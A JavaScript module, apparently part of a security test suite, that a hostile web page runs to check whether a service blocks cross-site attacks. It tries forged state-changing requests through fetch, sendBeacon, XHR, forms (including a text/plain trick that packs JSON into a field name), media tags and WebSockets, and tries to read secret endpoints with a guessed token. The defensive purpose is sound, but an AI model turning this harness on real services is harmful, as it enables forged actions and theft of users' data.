/**
 * What a hostile page tries. `attack` runs inside the page, so it knows nothing of this module but its arguments.
 */

/**
 * @typedef {object} Call a call of the API that changes something
 * @property {string} method
 * @property {string} path
 * @property {string} body what would make it change something
 *
 * @typedef {object} Plan
 * @property {string} service the service's address as the page names it
 * @property {Call[]} calls
 * @property {string[]} secrets paths whose answers are to be read
 * @property {string} token what the page guesses
 */

/**
 * Tries everything, and returns all texts that the page could read.
 *
 * @param {Plan} plan
 * @returns {Promise<string[]>}
 */
export async function attack({ service, calls, secrets, token }) {
  /** @type {string[]} */
  const read = [];
  const PATIENCE_MS = 1_000;

  /** @param {Promise<unknown>} attempt its failure is what should happen */
  const within = (attempt) =>
    Promise.race([attempt.catch(() => {}), new Promise((resolve) => setTimeout(resolve, PATIENCE_MS))]);

  /**
   * @param {string} url
   * @param {RequestInit} options
   */
  const fetched = async (url, options) => {
    const answer = await fetch(url, options);
    read.push(await answer.text());
  };

  /**
   * @param {string} tag
   * @param {Record<string, string>} attributes
   */
  const element = (tag, attributes) =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      made.onload = made.onerror = resolve;
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
    });

  /**
   * @param {Call} call
   * @param {string} enctype
   */
  const form = ({ path, body }, enctype) =>
    new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.name = `frame-${Math.random()}`;
      const made = document.createElement("form");
      Object.assign(made, { method: "POST", action: service + path, enctype, target: frame.name });
      const field = document.createElement("input");
      // As text/plain the name and the value make one JSON text.
      Object.assign(field, { name: body.slice(0, -1) + ',"x-a":"', value: '"}' });
      made.append(field);
      document.body.append(frame, made);
      frame.onload = resolve;
      made.submit();
    });

  /** @param {string} path */
  const socket = (path) =>
    new Promise((resolve) => {
      const made = new WebSocket(service.replace("http", "ws") + path);
      made.onopen = () => made.send("{}");
      made.onmessage = ({ data }) => read.push(String(data));
      made.onerror = made.onclose = resolve;
    });

  /** @param {Call} call */
  const old = ({ method, path, body }) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open(method, service + path);
      request.setRequestHeader("content-type", "application/json");
      request.onloadend = resolve;
      request.onload = () => read.push(request.responseText);
      request.send(body);
    });

  for (const call of calls) {
    const url = service + call.path;
    const { method, body } = call;
    const types = ["application/json", "text/plain", "application/x-www-form-urlencoded", "application/yaml"];
    for (const mode of /** @type {RequestMode[]} */ (["cors", "no-cors", "same-origin"])) {
      for (const type of types) {
        const options = { method: mode === "no-cors" ? "POST" : method, mode, body, headers: { "content-type": type } };
        await within(fetched(url, options));
        await within(fetched(url, { ...options, credentials: "include", keepalive: true }));
      }
      const headers = { "content-type": "application/json", authorization: `Bearer ${token}` };
      await within(fetched(url, { method, mode, body, headers }));
      const parts = new FormData();
      parts.set("file", new Blob([body], { type: "application/json" }), "a.json");
      await within(fetched(url, { method: "POST", mode, body: parts }));
    }
    for (const type of ["text/plain", "application/json", "application/x-www-form-urlencoded"]) {
      navigator.sendBeacon(url, new Blob([body], { type }));
    }
    navigator.sendBeacon(url, body);
    await within(old(call));
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      await within(form(call, type));
    }
    for (const tag of ["img", "script", "iframe", "embed"]) await within(element(tag, { src: url }));
    await within(element("link", { rel: "stylesheet", href: url }));
    await within(socket(call.path));
  }

  for (const path of secrets) {
    for (const mode of /** @type {RequestMode[]} */ (["cors", "no-cors", "same-origin"])) {
      await within(fetched(service + path, { mode }));
      await within(fetched(service + path, { mode, headers: { authorization: `Bearer ${token}` } }));
    }
    await within(element("script", { src: service + path }));
    await within(element("link", { rel: "stylesheet", href: service + path }));
    await within(element("iframe", { src: service + path }));
    await within(socket(path));
  }
  for (const sheet of document.styleSheets) {
    try {
      for (const rule of sheet.cssRules) read.push(rule.cssText);
    } catch {
      // A style sheet of another origin may not be read.
    }
  }
  for (const frame of document.querySelectorAll("iframe")) {
    read.push(frame.contentDocument?.documentElement.outerHTML ?? "");
  }
  return read;
}
